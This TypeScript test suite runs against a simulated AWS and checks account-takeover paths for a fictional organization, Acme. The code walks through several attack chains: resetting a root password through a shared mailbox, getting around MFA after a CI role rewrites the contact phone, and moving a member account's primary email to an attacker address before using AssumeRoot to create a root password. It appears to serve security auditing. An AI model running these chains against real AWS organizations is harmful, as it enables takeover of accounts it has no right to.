import {
  AccountClient,
  PutContactInformationCommand,
  StartPrimaryEmailUpdateCommand,
  AcceptPrimaryEmailUpdateCommand,
} from "@aws-sdk/client-account";
import { CreateLoginProfileCommand, IAMClient } from "@aws-sdk/client-iam";
import { AssumeRootCommand, STSClient } from "@aws-sdk/client-sts";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { loadShipped } from "../organizations/load.ts";
import { startPretendAws, type PretendAws } from "../start-pretend-aws.ts";
import { callerOf } from "./caller-of.ts";
import { makePerson, newestLink, type Entry, type Person } from "./person.ts";

const organization = loadShipped("acme");
const shop = { id: "230000000001", email: "devops+prod-shop@acme.example" };
const office = "+1 206 555 0100";
const record = {
  FullName: "Acme",
  AddressLine1: "1 Road",
  City: "Seattle",
  PostalCode: "98101",
  CountryCode: "US",
  PhoneNumber: "+49 30 666",
};

describe("taking over an account of Acme", () => {
  let aws: PretendAws;
  beforeEach(async () => {
    aws = await startPretendAws({ organization, seed: "acme" });
  });
  afterEach(() => aws.close());
  const client = (arn: string) => ({
    endpoint: aws.url,
    region: "us-east-1",
    maxAttempts: 1,
    credentials: aws.credentialsFor(arn),
  });
  const ciOf = (account: string) => `arn:aws:iam::${account}:role/github-deploy`;
  const newest = async (person: Person, address: string) => {
    const inbox = await person.mailbox(address);
    return inbox.status === "refused" ? inbox : (newestLink(inbox.messages) ?? "");
  };

  /** Resets the password, then walks round MFA by mail and phone; the first refusal ends it. */
  async function walkIn(person: Person, email: string, phone: string): Promise<Entry> {
    await person.forgetPassword({ email });
    const reset = await newest(person, email);
    if (typeof reset !== "string") return reset;
    const set = await person.setPassword({ token: reset, password: "fictional-taken" });
    if (set.status === "refused") return set;
    const asked = await person.signIn({ email, password: "fictional-taken" });
    if (asked.status !== "mfa") return asked;
    await person.troubleshootMfa({ pending: asked.pending });
    const link = await newest(person, email);
    if (typeof link !== "string") return link;
    const ringing = await person.confirmMail({ token: link });
    if (ringing.status === "refused") return ringing;
    const heard = await person.phone(phone);
    if (heard.status === "refused") return heard;
    return person.confirmPhone({ call: ringing.call, code: heard.messages.at(-1)?.code ?? "" });
  }

  it("works with the shared mailbox and the CI role that changes the phone", async () => {
    const thief = await makePerson(aws, "thief", ["mailbox:devops@acme.example"]);
    await thief.claim({ phone: record.PhoneNumber });
    const ci = new AccountClient(client(ciOf(shop.id)));
    await ci.send(new PutContactInformationCommand({ ContactInformation: record }));
    const entry = await walkIn(thief, shop.email, record.PhoneNumber);
    if (entry.status !== "in") throw new Error(JSON.stringify(entry));
    expect(await callerOf(aws.url, entry.credentials)).toBe(`arn:aws:iam::${shop.id}:root`);
  });

  it("fails without the CI role at the phone, and without the mailbox at the mailbox", async () => {
    const reader = await makePerson(aws, "reader", ["mailbox:devops@acme.example"]);
    expect(await walkIn(reader, shop.email, office)).toMatchObject({ status: "refused", step: "phone" });
    const pusher = await makePerson(aws, "pusher", [`phone:${record.PhoneNumber}`]);
    const ci = new AccountClient(client(ciOf(shop.id)));
    await ci.send(new PutContactInformationCommand({ ContactInformation: record }));
    expect(await walkIn(pusher, shop.email, record.PhoneNumber)).toMatchObject({ status: "refused", step: "mailbox" });
  });

  it("works with the mailbox and the office phone that was copied into every member", async () => {
    const pair = await makePerson(aws, "pair", ["mailbox:devops@acme.example", `phone:${office}`]);
    const entry = await walkIn(pair, shop.email, office);
    expect(entry).toMatchObject({ status: "in", account: shop.id });
  });

  it("needs the mailbox alone where root has no MFA", async () => {
    const reader = await makePerson(aws, "reader", ["mailbox:devops@acme.example"]);
    const entry = await walkIn(reader, "devops+staging-payments@acme.example", office);
    expect(entry).toMatchObject({ status: "in", account: "240000000004" });
  });

  it("is stopped by the one OU whose SCP keeps the contacts", async () => {
    const ci = new AccountClient(client(ciOf("231000000001")));
    const change = ci.send(new PutContactInformationCommand({ ContactInformation: record }));
    await expect(change).rejects.toMatchObject({ name: "AccessDeniedException" });
  });

  it("needs nothing but management where central root access is on", async () => {
    const arn =
      "arn:aws:iam::111111111111:role/aws-reserved/sso.amazonaws.com/AWSReservedSSO_OrganizationAdmin_6f3c2a1b0d9e8f70";
    const target = "230000000008";
    const email = "mine@evil.example";
    const insider = await makePerson(aws, "insider", [`mailbox:${email}`]);
    const contacts = new AccountClient(client(arn));
    await contacts.send(new StartPrimaryEmailUpdateCommand({ AccountId: target, PrimaryEmail: email }));
    const inbox = await insider.mailbox(email);
    const Otp = inbox.status === "refused" ? "" : (inbox.messages[0]?.otp ?? "");
    await contacts.send(new AcceptPrimaryEmailUpdateCommand({ AccountId: target, PrimaryEmail: email, Otp }));
    expect(await walkIn(insider, email, office)).toMatchObject({ status: "refused", step: "new-password" });
    const { Credentials: made } = await new STSClient(client(arn)).send(
      new AssumeRootCommand({
        TargetPrincipal: target,
        TaskPolicyArn: { arn: "arn:aws:iam::aws:policy/root-task/IAMCreateRootUserPassword" },
      }),
    );
    const root = new IAMClient({
      ...client(arn),
      credentials: {
        accessKeyId: made?.AccessKeyId ?? "",
        secretAccessKey: made?.SecretAccessKey ?? "",
        sessionToken: made?.SessionToken ?? "",
      },
    });
    await root.send(new CreateLoginProfileCommand({}));
    expect(await walkIn(insider, email, office)).toMatchObject({ status: "in", account: target });
  });
});
